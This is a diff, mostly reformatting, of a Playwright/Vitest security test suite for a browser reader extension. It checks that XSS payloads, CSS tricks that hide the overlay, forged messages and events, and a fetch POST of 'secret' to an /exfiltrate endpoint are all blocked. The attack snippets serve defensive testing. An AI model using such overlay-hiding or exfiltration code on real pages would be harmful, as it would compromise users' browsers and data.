@@ -17,10 +17,32 @@ import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
 import { readFileSync } from 'node:fs';
 import path from 'node:path';
 import type { Page } from 'playwright-core';
-import { OVERLAY_TAG, ROOT, clickAction, isOverlayOpen, launchChromium, overlayEval, quietFor, waitForOverlay, waitUntil, type ChromiumSession } from './harness.js';
 import {
-  COVER_ATTACKS, COVER_RGB, IDS, attackScript, clearFlags, coverShown, flags, liveScriptInOverlay, pixelAt,
-  recordClicks, saveButtonCenter, serveHostileSite, type HostileSite,
+  OVERLAY_TAG,
+  ROOT,
+  clickAction,
+  isOverlayOpen,
+  launchChromium,
+  overlayEval,
+  quietFor,
+  waitForOverlay,
+  waitUntil,
+  type ChromiumSession,
+} from './harness.js';
+import {
+  COVER_ATTACKS,
+  COVER_RGB,
+  IDS,
+  attackScript,
+  clearFlags,
+  coverShown,
+  flags,
+  liveScriptInOverlay,
+  pixelAt,
+  recordClicks,
+  saveButtonCenter,
+  serveHostileSite,
+  type HostileSite,
 } from './hostile-checks.js';
 
 // eslint-disable-next-line @typescript-eslint/no-explicit-any
@@ -43,7 +65,9 @@ afterAll(async () => {
 });
 
 const opened: Page[] = [];
-afterEach(async () => { await Promise.all(opened.splice(0).map((p) => p.close().catch(() => {}))); });
+afterEach(async () => {
+  await Promise.all(opened.splice(0).map((p) => p.close().catch(() => {})));
+});
 
 async function open(p: string): Promise<Page> {
   const page = await chromium.ctx.newPage();
@@ -59,12 +83,22 @@ describe('hostile article in the overlay (Chromium)', () => {
     const atLoad = ['script', 'img_onerror', 'svg_onload', 'details_ontoggle', 'iframe_srcdoc', 'noscript_mxss'];
     const onClick = ['a_js', 'a_js_entity', 'a_js_tab', 'a_js_lead'];
     // Control, part 1: the payloads fire on the page itself (iframes, toggle events fire after load).
-    await waitUntil(async () => { const f = await flags(page); return atLoad.every((id) => f.includes(id)); }, `the load-time payloads to fire on the raw page (${atLoad.join(', ')})`).catch(() => {});
+    await waitUntil(
+      async () => {
+        const f = await flags(page);
+        return atLoad.every((id) => f.includes(id));
+      },
+      `the load-time payloads to fire on the raw page (${atLoad.join(', ')})`,
+    ).catch(() => {});
     // Control, part 2: the obfuscated javascript: links are live in this browser when clicked on the page.
     await page.evaluate(() => {
-      for (const a of Array.from(document.querySelectorAll('a'))) if (/^\W*j/i.test(a.getAttribute('href') ?? '') || /javascript/i.test(a.href)) a.click();
+      for (const a of Array.from(document.querySelectorAll('a')))
+        if (/^\W*j/i.test(a.getAttribute('href') ?? '') || /javascript/i.test(a.href)) a.click();
     });
-    await waitUntil(async () => { const f = await flags(page); return onClick.every((id) => f.includes(id)); }, 'the clicked javascript: links to fire on the raw page').catch(() => {});
+    await waitUntil(async () => {
+      const f = await flags(page);
+      return onClick.every((id) => f.includes(id));
+    }, 'the clicked javascript: links to fire on the raw page').catch(() => {});
     const control = await flags(page);
     console.log(`payloads live on the raw page in Chromium: ${control.length}/${IDS.length}: ${control.join(', ')}`);
     for (const id of [...atLoad, ...onClick]) {
@@ -76,9 +110,14 @@ describe('hostile article in the overlay (Chromium)', () => {
     const before = requests.length;
     await clickAction(chromium.ctx, page, chromium.extensionId);
     // The article is shown (where Readability cuts it depends on how the broken payload markup parsed).
-    expect(await overlayEval(page, (root) => root.querySelector('.article-body')?.textContent ?? '')).toMatch(/Paragraph [1-5]: the city council/);
+    expect(await overlayEval(page, (root) => root.querySelector('.article-body')?.textContent ?? '')).toMatch(
+      /Paragraph [1-5]: the city council/,
+    );
     expect(await liveScriptInOverlay(page)).toEqual([]);
-    await quietFor(800, 'a payload that got into the overlay would fire (onerror, onload, ontoggle, iframe load) by now');
+    await quietFor(
+      800,
+      'a payload that got into the overlay would fire (onerror, onload, ontoggle, iframe load) by now',
+    );
     expect(await flags(page)).toEqual([]);
     // No beacon: nothing under /evil/ was requested because of the reader.
     expect(requests.slice(before).filter((u) => u.startsWith('/evil/'))).toEqual([]);
@@ -89,9 +128,22 @@ describe('hostile article in the overlay (Chromium)', () => {
     await clickAction(chromium.ctx, page, chromium.extensionId);
     expect(await waitForOverlay(page)).toBe(true);
     // What is under the middle and the corners of the screen.
-    const hits = (): Promise<(string | null)[]> => page.evaluate(() => [[640, 450], [10, 10], [1270, 890]].map(([x, y]) => document.elementFromPoint(x!, y!)?.localName ?? null));
-    const visible = (): Promise<boolean> => overlayEval(page, (root, host) => host.isConnected && host.checkVisibility({ opacityProperty: true, visibilityProperty: true })
-      && (root.querySelector('.article-body')?.getBoundingClientRect().height ?? 0) > 100);
+    const hits = (): Promise<(string | null)[]> =>
+      page.evaluate(() =>
+        [
+          [640, 450],
+          [10, 10],
+          [1270, 890],
+        ].map(([x, y]) => document.elementFromPoint(x!, y!)?.localName ?? null),
+      );
+    const visible = (): Promise<boolean> =>
+      overlayEval(
+        page,
+        (root, host) =>
+          host.isConnected &&
+          host.checkVisibility({ opacityProperty: true, visibilityProperty: true }) &&
+          (root.querySelector('.article-body')?.getBoundingClientRect().height ?? 0) > 100,
+      );
     const everywhere = [OVERLAY_TAG, OVERLAY_TAG, OVERLAY_TAG];
 
     await page.evaluate((tag) => {
@@ -108,12 +160,48 @@ describe('hostile article in the overlay (Chromium)', () => {
 
     // Each attack, after the reader opened; each time the reader is back on screen by itself (no click).
     const attacks: [string, (tag: string) => void][] = [
-      ['a stylesheet hiding <html>', () => { const s = document.createElement('style'); s.textContent = 'html { display: none !important; }'; document.body.append(s); }],
-      ['root opacity/transform via the style attribute', () => document.documentElement.setAttribute('style', 'opacity: 0 !important; transform: scale(0) !important')],
-      ['a CSSOM rule (no DOM mutation)', () => { const sheet = new CSSStyleSheet(); sheet.replaceSync('html { filter: opacity(0) !important; clip-path: inset(50%) !important; }'); document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]; }],
-      ['the host restyled inline', (tag) => { (document.documentElement.querySelector(`:scope > ${tag}`) as HTMLElement).style.setProperty('display', 'none', 'important'); }],
-      ['the popover closed', (tag) => { (document.documentElement.querySelector(`:scope > ${tag}`) as HTMLElement).hidePopover(); }],
-      ['the host removed', (tag) => { document.documentElement.querySelector(`:scope > ${tag}`)?.remove(); }],
+      [
+        'a stylesheet hiding <html>',
+        () => {
+          const s = document.createElement('style');
+          s.textContent = 'html { display: none !important; }';
+          document.body.append(s);
+        },
+      ],
+      [
+        'root opacity/transform via the style attribute',
+        () => document.documentElement.setAttribute('style', 'opacity: 0 !important; transform: scale(0) !important'),
+      ],
+      [
+        'a CSSOM rule (no DOM mutation)',
+        () => {
+          const sheet = new CSSStyleSheet();
+          sheet.replaceSync('html { filter: opacity(0) !important; clip-path: inset(50%) !important; }');
+          document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
+        },
+      ],
+      [
+        'the host restyled inline',
+        (tag) => {
+          (document.documentElement.querySelector(`:scope > ${tag}`) as HTMLElement).style.setProperty(
+            'display',
+            'none',
+            'important',
+          );
+        },
+      ],
+      [
+        'the popover closed',
+        (tag) => {
+          (document.documentElement.querySelector(`:scope > ${tag}`) as HTMLElement).hidePopover();
+        },
+      ],
+      [
+        'the host removed',
+        (tag) => {
+          document.documentElement.querySelector(`:scope > ${tag}`)?.remove();
+        },
+      ],
     ];
     for (const [name, attack] of attacks) {
       await page.evaluate(attack, OVERLAY_TAG);
@@ -131,23 +219,35 @@ describe('hostile article in the overlay (Chromium)', () => {
   it('forged window messages and DOM events from the page do nothing', async () => {
     const page = await open('/news/plain.html');
     await page.evaluate(() => {
-      for (const m of [{ type: 'reader:toggle', payload: { force: true } }, { type: 'library:save', payload: {} }, { type: 'autoclean:set-enabled', payload: { enabled: true } }]) {
+      for (const m of [
+        { type: 'reader:toggle', payload: { force: true } },
+        { type: 'library:save', payload: {} },
+        { type: 'autoclean:set-enabled', payload: { enabled: true } },
+      ]) {
         window.postMessage(m, '*');
         document.dispatchEvent(new CustomEvent(m.type, { detail: m.payload }));
       }
     });
-    await quietFor(500, 'a forged message or event that reached the content script would have opened the reader by now');
+    await quietFor(
+      500,
+      'a forged message or event that reached the content script would have opened the reader by now',
+    );
     expect(await isOverlayOpen(page)).toBe(false);
     // The page's world has no way to the extension's messaging (no externally_connectable).
     const reach = await page.evaluate((id) => {
       const rt = (globalThis as unknown as { chrome?: { runtime?: { sendMessage?: unknown } } }).chrome?.runtime;
       if (typeof rt?.sendMessage !== 'function') return 'no runtime';
-      try { (rt.sendMessage as (id: string, m: unknown) => void)(id, { type: 'library:open', payload: {} }); return 'sent'; } catch (e) { return `refused: ${(e as Error).message}`; }
+      try {
+        (rt.sendMessage as (id: string, m: unknown) => void)(id, { type: 'library:open', payload: {} });
+        return 'sent';
+      } catch (e) {
+        return `refused: ${(e as Error).message}`;
+      }
     }, chromium.extensionId);
     expect(reach).not.toBe('sent');
   });
 
-  it('page script cannot press the overlay\'s buttons (.click() into the open shadow root) or close it with a synthetic Escape', async () => {
+  it("page script cannot press the overlay's buttons (.click() into the open shadow root) or close it with a synthetic Escape", async () => {
     const page = await open('/news/plain.html');
     await clickAction(chromium.ctx, page, chromium.extensionId);
     expect(await waitForOverlay(page)).toBe(true);
@@ -156,17 +256,31 @@ describe('hostile article in the overlay (Chromium)', () => {
       const found: string[] = [];
       for (const id of ['save', 'autoclean-always', 'autoclean-never']) {
         const b = root?.querySelector<HTMLButtonElement>(`button[data-action="${id}"]`);
-        if (b) { b.click(); found.push(id); }
+        if (b) {
+          b.click();
+          found.push(id);
+        }
       }
       // The reading settings and the close button: a theme radio flipped (click, then checked + change),
       // the text size stepped, the reader closed.
       root?.querySelector<HTMLButtonElement>('button.aa')?.click();
       const dark = root?.querySelector<HTMLInputElement>('input[value="dark"]');
-      if (dark) { dark.click(); dark.checked = true; dark.dispatchEvent(new Event('change', { bubbles: true })); found.push('theme'); }
+      if (dark) {
+        dark.click();
+        dark.checked = true;
+        dark.dispatchEvent(new Event('change', { bubbles: true }));
+        found.push('theme');
+      }
       const larger = root?.querySelector<HTMLButtonElement>('[data-step="fontSize+"]');
-      if (larger) { larger.click(); found.push('size'); }
+      if (larger) {
+        larger.click();
+        found.push('size');
+      }
       const close = root?.querySelector<HTMLButtonElement>('button.close');
-      if (close) { close.click(); found.push('close'); }
+      if (close) {
+        close.click();
+        found.push('close');
+      }
       // The takeover event of a newer content script copy (only an orphaned copy obeys it).
       document.dispatchEvent(new CustomEvent('dateline-reader:takeover'));
       document.dispatchEvent(new KeyboardEvent('keydown', { key: 'Escape', bubbles: true, composed: true }));
@@ -174,11 +288,18 @@ describe('hostile article in the overlay (Chromium)', () => {
       return found;
     }, OVERLAY_TAG);
     expect(pressed).toEqual(['save', 'autoclean-always', 'autoclean-never', 'theme', 'size', 'close']);
-    await quietFor(1000, 'a scripted press that worked would have closed the reader, saved, or stored a setting by now');
+    await quietFor(
+      1000,
+      'a scripted press that worked would have closed the reader, saved, or stored a setting by now',
+    );
     expect(await isOverlayOpen(page)).toBe(true);
     // The reader kept the user's settings: nothing was changed or stored.
-    expect(await overlayEval(page, (root) => (root.querySelector('.reader') as HTMLElement).dataset.theme)).not.toBe('dark');
-    expect(await chromium.sw.evaluate(async () => (await chrome.storage.sync.get('readerSettings')).readerSettings ?? null)).toBeNull();
+    expect(await overlayEval(page, (root) => (root.querySelector('.reader') as HTMLElement).dataset.theme)).not.toBe(
+      'dark',
+    );
+    expect(
+      await chromium.sw.evaluate(async () => (await chrome.storage.sync.get('readerSettings')).readerSettings ?? null),
+    ).toBeNull();
     // Nothing ran: no announcement, no auto-clean rule, nothing in the library.
     expect(await overlayEval(page, (root) => root.querySelector('.status')?.textContent ?? '')).toBe('');
     const autoclean = await chromium.sw.evaluate(async () => ({
@@ -201,18 +322,29 @@ describe('hostile article in the overlay (Chromium)', () => {
   it('a compromised content script cannot change settings, read the site list or save another site’s article', async () => {
     const page = await open('/news/plain.html');
     const url = page.url();
-    const replies = await chromium.sw.evaluate(async (pageUrl) => {
+    const replies = (await chromium.sw.evaluate(async (pageUrl) => {
       const tabs = await chrome.tabs.query({});
       const tab = tabs.find((t: { url?: string }) => t.url === pageUrl);
       const [{ result }] = await chrome.scripting.executeScript({
         target: { tabId: tab.id },
         // Runs in the extension's isolated world of the tab: exactly what a content script can send.
         func: async () => {
-          const article = { url: 'https://bank.example/statement', title: 'x', content: '<p>x</p>', textContent: 'x', dateline: {}, related: [] };
-          const send = (m: unknown): Promise<unknown> => chrome.runtime.sendMessage(m).catch((e: Error) => ({ thrown: e.message }));
+          const article = {
+            url: 'https://bank.example/statement',
+            title: 'x',
+            content: '<p>x</p>',
+            textContent: 'x',
+            dateline: {},
+            related: [],
+          };
+          const send = (m: unknown): Promise<unknown> =>
+            chrome.runtime.sendMessage(m).catch((e: Error) => ({ thrown: e.message }));
           return {
             enable: await send({ type: 'autoclean:set-enabled', payload: { enabled: true } }),
-            add: await send({ type: 'autoclean:add', payload: { entries: [{ site: 'evil.example', mode: 'always' }] } }),
+            add: await send({
+              type: 'autoclean:add',
+              payload: { entries: [{ site: 'evil.example', mode: 'always' }] },
+            }),
             state: await send({ type: 'autoclean:state', payload: {} }),
             exportList: await send({ type: 'autoclean:export', payload: {} }),
             saveOther: await send({ type: 'library:save', payload: { article } }),
@@ -220,11 +352,13 @@ describe('hostile article in the overlay (Chromium)', () => {
         },
       });
       return result;
-    }, url) as Record<string, { ok?: boolean; error?: string; thrown?: string } | undefined>;
+    }, url)) as Record<string, { ok?: boolean; error?: string; thrown?: string } | undefined>;
     for (const [name, reply] of Object.entries(replies)) {
       expect(reply?.ok, `${name}: ${JSON.stringify(reply)}`).not.toBe(true);
     }
-    const stored = await chromium.sw.evaluate(async () => (await chrome.storage.local.get('autoclean')).autoclean ?? null);
+    const stored = await chromium.sw.evaluate(
+      async () => (await chrome.storage.local.get('autoclean')).autoclean ?? null,
+    );
     expect(JSON.stringify(stored ?? {})).not.toContain('evil.example');
   });
 
@@ -234,7 +368,10 @@ describe('hostile article in the overlay (Chromium)', () => {
     const probes = await page.evaluate(async (b) => {
       const out: Record<string, string> = {};
       for (const f of ['manifest.json', 'content.js', 'background.js', 'library.html', 'icons/icon-16.png']) {
-        out[f] = await fetch(b + f).then((r) => `loaded ${r.status}`, () => 'refused');
+        out[f] = await fetch(b + f).then(
+          (r) => `loaded ${r.status}`,
+          () => 'refused',
+        );
       }
       out.img = await new Promise<string>((resolve) => {
         const img = new Image();
@@ -244,7 +381,10 @@ describe('hostile article in the overlay (Chromium)', () => {
       });
       return out;
     }, base);
-    expect(Object.values(probes).every((v) => v === 'refused'), JSON.stringify(probes)).toBe(true);
+    expect(
+      Object.values(probes).every((v) => v === 'refused'),
+      JSON.stringify(probes),
+    ).toBe(true);
   });
 
   it('the page cannot cover the reader (popover, modal dialog, fullscreen): it stays on top, gets clicks', async () => {
@@ -295,15 +435,19 @@ describe('hostile article in the overlay (Chromium)', () => {
       expect(await page.evaluate(() => (window as unknown as { __coverClicks: number }).__coverClicks), id).toBe(0);
       if (!library) {
         await expect.poll(status, { timeout: 15_000, message: id }).toMatch(/Saved|Updated|already/i);
-        await overlayEval(page, (root) => { root.querySelector('.status')!.textContent = ''; });
+        await overlayEval(page, (root) => {
+          root.querySelector('.status')!.textContent = '';
+        });
         await expect.poll(saveLabel, { message: id }).toBe('Saved ✓');
       } else {
         const lib = await library;
         opened.push(lib);
         await lib.waitForURL(`chrome-extension://${chromium.extensionId}/library.html`, { timeout: 15_000 });
         await lib.waitForSelector('body[data-state="ready"]', { timeout: 15_000 });
-        expect(await lib.$$eval('#list li .title', (els) => els.map((e) => (e.textContent ?? '').trim())), id)
-          .toContain('Plain story about the harbour');
+        expect(
+          await lib.$$eval('#list li .title', (els) => els.map((e) => (e.textContent ?? '').trim())),
+          id,
+        ).toContain('Plain story about the harbour');
         await lib.close();
         // The next attack runs on the tab the user is looking at.
         await page.bringToFront();
@@ -332,7 +476,13 @@ describe('hostile article in the overlay (Chromium)', () => {
       document.addEventListener('fullscreenchange', () => {
         if (document.fullscreenElement === cover) (window as unknown as { __entered: boolean }).__entered = true;
       });
-      document.addEventListener('click', () => { void cover.requestFullscreen(); }, { once: true });
+      document.addEventListener(
+        'click',
+        () => {
+          void cover.requestFullscreen();
+        },
+        { once: true },
+      );
     });
     const pages = chromium.ctx.pages().length;
     await page.mouse.click(tx, ty);
@@ -360,7 +510,9 @@ describe('a saved hostile article in the library page', () => {
     await clickAction(chromium.ctx, page, chromium.extensionId);
     // A user's click on Save (trusted: playwright pierces the open shadow root).
     await page.locator(`${OVERLAY_TAG} button[data-action="save"]`).click();
-    await expect.poll(() => overlayEval(page, (root) => root.querySelector('.status')?.textContent ?? ''), { timeout: 20_000 }).toMatch(/Saved|Updated/);
+    await expect
+      .poll(() => overlayEval(page, (root) => root.querySelector('.status')?.textContent ?? ''), { timeout: 20_000 })
+      .toMatch(/Saved|Updated/);
 
     const lib = await chromium.ctx.newPage();
     opened.push(lib);
@@ -369,7 +521,9 @@ describe('a saved hostile article in the library page', () => {
     await lib.waitForSelector('body[data-state="ready"]', { timeout: 15_000 });
     await lib.click('#list li .title');
     expect(await waitForOverlay(lib)).toBe(true);
-    expect(await overlayEval(lib, (root) => root.querySelector('.article-body')?.textContent ?? '')).toMatch(/Paragraph [1-5]: the city council/);
+    expect(await overlayEval(lib, (root) => root.querySelector('.article-body')?.textContent ?? '')).toMatch(
+      /Paragraph [1-5]: the city council/,
+    );
     expect(await liveScriptInOverlay(lib)).toEqual([]);
     await quietFor(800, 'a payload that got into the saved article would fire in the library page by now');
     expect(await flags(lib)).toEqual([]);
@@ -377,7 +531,16 @@ describe('a saved hostile article in the library page', () => {
     // Nothing at all was requested from the publisher while the saved copy was read (images are
     // inlined; those not stored are links), and the CSP refuses a remote image that got in anyway.
     // The probe image settles (the CSP refuses it: error) before we look at the requests.
-    await lib.evaluate((o) => new Promise<void>((resolve) => { const img = document.createElement('img'); img.onload = img.onerror = () => resolve(); img.src = `${o}/img-probe.png`; document.body.append(img); }), origin);
+    await lib.evaluate(
+      (o) =>
+        new Promise<void>((resolve) => {
+          const img = document.createElement('img');
+          img.onload = img.onerror = () => resolve();
+          img.src = `${o}/img-probe.png`;
+          document.body.append(img);
+        }),
+      origin,
+    );
     expect(requests.slice(before)).toEqual([]);
 
     // (Code run by the test through CDP is exempt from the page's CSP; what it inserts is not.)
@@ -395,7 +558,10 @@ describe('a saved hostile article in the library page', () => {
       document.body.append(a);
       a.click();
     });
-    await quietFor(300, 'an inline script, handler, string timer or javascript: URL the CSP let through would have set __csp_probe by now');
+    await quietFor(
+      300,
+      'an inline script, handler, string timer or javascript: URL the CSP let through would have set __csp_probe by now',
+    );
     const probe = await lib.evaluate(() => (window as unknown as { __csp_probe?: number }).__csp_probe ?? null);
     expect(probe).toBeNull();
   });
@@ -410,22 +576,30 @@ describe('extension pages connect nowhere', () => {
       await ext.waitForLoadState('load');
       const before = requests.length;
       const result = await ext.evaluate(async (o) => {
-        const fetched = await fetch(`${o}/exfiltrate?fetch`, { method: 'POST', body: 'secret' })
-          .then(() => 'sent', (e: Error) => `refused: ${e.name}`);
+        const fetched = await fetch(`${o}/exfiltrate?fetch`, { method: 'POST', body: 'secret' }).then(
+          () => 'sent',
+          (e: Error) => `refused: ${e.name}`,
+        );
         const xhr = await new Promise<string>((resolve) => {
           const x = new XMLHttpRequest();
           x.onload = () => resolve('sent');
           x.onerror = () => resolve('refused');
-          try { x.open('GET', `${o}/exfiltrate?xhr`); x.send(); } catch { resolve('refused'); }
+          try {
+            x.open('GET', `${o}/exfiltrate?xhr`);
+            x.send();
+          } catch {
+            resolve('refused');
+          }
         });
         // Stored images are shown from data: (and blob:) URLs: those still load.
         const png = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
-        const load = (src: string): Promise<number> => new Promise((resolve) => {
-          const img = new Image();
-          img.onload = () => resolve(img.naturalWidth);
-          img.onerror = () => resolve(0);
-          img.src = src;
-        });
+        const load = (src: string): Promise<number> =>
+          new Promise((resolve) => {
+            const img = new Image();
+            img.onload = () => resolve(img.naturalWidth);
+            img.onerror = () => resolve(0);
+            img.src = src;
+          });
         const bytes = Uint8Array.from(atob(png), (c) => c.charCodeAt(0));
         const blobUrl = URL.createObjectURL(new Blob([bytes], { type: 'image/png' }));
         return { fetched, xhr, data: await load(`data:image/png;base64,${png}`), blob: await load(blobUrl) };
@@ -439,11 +613,20 @@ describe('extension pages connect nowhere', () => {
 describe('built manifests', () => {
   for (const target of ['chrome', 'firefox']) {
     it(`dist/${target}: no web-accessible resources, no external messaging, a strict extension-page CSP`, () => {
-      const m = JSON.parse(readFileSync(path.join(ROOT, 'dist', target, 'manifest.json'), 'utf8')) as Record<string, unknown>;
+      const m = JSON.parse(readFileSync(path.join(ROOT, 'dist', target, 'manifest.json'), 'utf8')) as Record<
+        string,
+        unknown
+      >;
       expect(m.web_accessible_resources ?? []).toEqual([]);
       expect(m.externally_connectable).toBeUndefined();
       const csp = (m.content_security_policy as { extension_pages?: string } | undefined)?.extension_pages ?? '';
-      const directives = new Map(csp.split(';').map((d) => d.trim().split(/\s+/)).filter((d) => d[0]).map((d) => [d[0]!, d.slice(1)]));
+      const directives = new Map(
+        csp
+          .split(';')
+          .map((d) => d.trim().split(/\s+/))
+          .filter((d) => d[0])
+          .map((d) => [d[0]!, d.slice(1)]),
+      );
       expect(directives.get('script-src')).toEqual(["'self'"]);
       expect(directives.get('object-src')).toEqual(["'none'"]);
       expect(directives.get('base-uri')).toEqual(["'none'"]);
